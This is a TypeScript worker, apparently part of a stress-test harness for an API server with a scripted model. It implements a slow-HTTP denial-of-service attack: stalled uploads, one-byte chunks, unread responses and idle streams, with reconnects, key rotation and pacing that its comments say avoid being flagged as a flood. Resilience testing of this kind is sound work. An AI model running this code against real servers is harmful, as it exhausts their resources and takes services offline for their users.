import { connect, type Socket } from 'node:net'

// Holds many connections open in the four ways that cost a server most memory, in a process of its own. A connection that
// is closed is opened again a second later.

export type Attack = 'stalled uploads' | 'one-byte chunks' | 'unread answers' | 'idle streams'
/** Connections are opened over some time: the calls of a faster sender would be refused as an overload. */
export type Job = { url: string; keys: readonly string[]; each: number; openingMs: number }
export type Report = { open: number; statuses: Record<string, number> }

const pauseMs = 1000
/** A sender that tried again at once would measure a flood of connections. */
const refusedPauseMs = 10_000
const chunksPerSecond = 10
const chunkParts = 10

const prompt = (script: object) => `Go.\n#script ${JSON.stringify(script)}`
const model = 'claude-scripted'
const bodyOf = (script: object, stream: boolean) =>
  JSON.stringify({
    model,
    max_tokens: 100,
    stream,
    messages: [{ role: 'user', content: prompt(script) }],
  })

const unreadBody = bodyOf({ text: 'a', hugeFrameBytes: 256 * 1024 }, false)
const idleBody = bodyOf({ tokens: 10, stallAfter: { pieces: 1, ms: 600_000 } }, true)
const complete = (body: string) => `content-length: ${Buffer.byteLength(body)}\r\n\r\n${body}`

/** What is sent after the common headers. */
const payloads: Record<Attack, string> = {
  'stalled uploads': `content-length: ${1024 * 1024}\r\n\r\n${' '.repeat(1000)}`,
  'one-byte chunks': 'transfer-encoding: chunked\r\n\r\n',
  'unread answers': complete(unreadBody),
  'idle streams': complete(idleBody),
}

const chunking = new Set<Socket>()
const open = new Set<Socket>()
const statuses: Record<string, number> = {}

function hold(attack: Attack, key: string, url: URL) {
  const socket = connect(Number(url.port), url.hostname)
  open.add(socket)
  socket.on('error', () => undefined)
  socket.write(
    `POST /v1/messages HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${key}\r\n` +
      `content-type: application/json\r\n${payloads[attack]}`,
  )
  if (attack === 'one-byte chunks') chunking.add(socket)
  if (attack !== 'unread answers') {
    socket.once('data', (head) => {
      const status = `${attack} ${head.toString('latin1', 9, 12)}`
      statuses[status] = (statuses[status] ?? 0) + 1
      if (!status.endsWith('200')) setTimeout(() => socket.destroy(), refusedPauseMs)
    })
  }
  socket.once('close', () => {
    open.delete(socket)
    chunking.delete(socket)
    setTimeout(() => hold(attack, key, url), pauseMs)
  })
}

function begin({ url, keys, each, openingMs }: Job) {
  const target = new URL(url)
  const attacks = Object.keys(payloads) as Attack[]
  for (let index = 0; index < each; index++) {
    setTimeout(
      () => {
        for (const attack of attacks) hold(attack, keys[index % keys.length] ?? '', target)
      },
      (index / each) * openingMs,
    )
  }
  // A part of them at a time: all at once would be a burst, ten times a second.
  let part = 0
  setInterval(
    () => {
      part = (part + 1) % chunkParts
      let index = 0
      for (const socket of chunking) if (index++ % chunkParts === part) socket.write('1\r\n \r\n')
    },
    1000 / chunksPerSecond / chunkParts,
  )
}

process.on('message', (message) => {
  if (message === 'report') process.send?.({ open: open.size, statuses } satisfies Report)
  else begin(message as Job)
})
process.on('disconnect', () => process.exit(0))
process.send?.('ready')
